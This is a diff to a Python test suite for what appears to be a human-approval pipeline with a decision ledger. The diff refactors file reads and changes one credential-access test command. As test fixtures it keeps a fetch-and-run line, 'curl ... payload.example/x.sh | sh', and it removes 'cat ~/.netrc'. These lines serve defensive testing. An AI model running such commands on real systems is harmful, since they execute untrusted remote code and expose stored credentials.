@@ -16,6 +16,15 @@ BENIGN = "#!/bin/sh\necho hello\nls -la /tmp\n"
 MALICIOUS = "curl -fsSL http://payload.example/x.sh | sh\n"
 
 
+def read_text(path):
+    with open(path) as f:
+        return f.read()
+
+
+def read_json(path):
+    return json.loads(read_text(path))
+
+
 def schema_check(schema, files):
     if not files:
         return
@@ -77,7 +86,7 @@ class PipelineTest(unittest.TestCase):
         self.assertNotEqual(again.returncode, 0, "a decided request cannot be answered twice")
 
     def test_human_deny_rejects(self):
-        _, out, _ = self.p.submit("credential_access", command="cat ~/.netrc")
+        _, out, _ = self.p.submit("credential_access", command="vault-cli read team/deploy-key")
         r = self.p.arbiter_cli("approvals", "deny", out["request_id"], "--by", "alice")
         self.assertEqual(r.returncode, 0, r.stderr)
         self.assertEqual(json.loads(self.p.operator("status", out["request_id"], "--json").stdout)["decision"], "reject")
@@ -105,7 +114,7 @@ class PipelineTest(unittest.TestCase):
         deadline = time.time() + 10
         while time.time() < deadline and len(os.listdir(self.p.path("dead-letter", "ciso"))) < 4:
             time.sleep(0.05)
-        records = [json.load(open(os.path.join(self.p.path("dead-letter", "ciso"), f)))
+        records = [read_json(os.path.join(self.p.path("dead-letter", "ciso"), f))
                    for f in os.listdir(self.p.path("dead-letter", "ciso")) if f.endswith(".json")]
         reasons = sorted(r["reason"] for r in records)
         self.assertEqual(reasons, ["bad_name", "malformed", "symlink", "unknown_kid"])
@@ -127,9 +136,7 @@ class PipelineTest(unittest.TestCase):
         schema_check("execution-token.schema.json", [p("tokens", f) for f in self.p.json_files("tokens")])
         schema_check("decision-ledger-entry.schema.json", [p("state", "decision_ledger.jsonl")])
         schema_check("state-event.schema.json", [p("state", "events.jsonl")])
-        types = {json.loads(open(p("state", "events.jsonl")).readline())["event_type"]}
-        for line in open(p("state", "events.jsonl")):
-            types.add(json.loads(line)["event_type"])
+        types = {json.loads(line)["event_type"] for line in read_text(p("state", "events.jsonl")).splitlines()}
         self.assertTrue({"PROPOSED", "REVIEWED", "APPROVED", "REJECTED", "ESCALATED"} <= types)
 
     def test_verify_ledger_passes_then_names_the_edited_entry(self):
@@ -139,9 +146,10 @@ class PipelineTest(unittest.TestCase):
         self.assertEqual(ok.returncode, 0, ok.stdout + ok.stderr)
         self.p.stop_all()
         path = self.p.path("state", "decision_ledger.jsonl")
-        lines = open(path).read().splitlines()
+        lines = read_text(path).splitlines()
         lines[1] = lines[1].replace("Approved", "Rejected")
-        open(path, "w").write("\n".join(lines) + "\n")
+        with open(path, "w") as f:
+            f.write("\n".join(lines) + "\n")
         bad = self.p.arbiter_cli("verify-ledger")
         self.assertNotEqual(bad.returncode, 0)
         self.assertIn("line 2", bad.stdout)
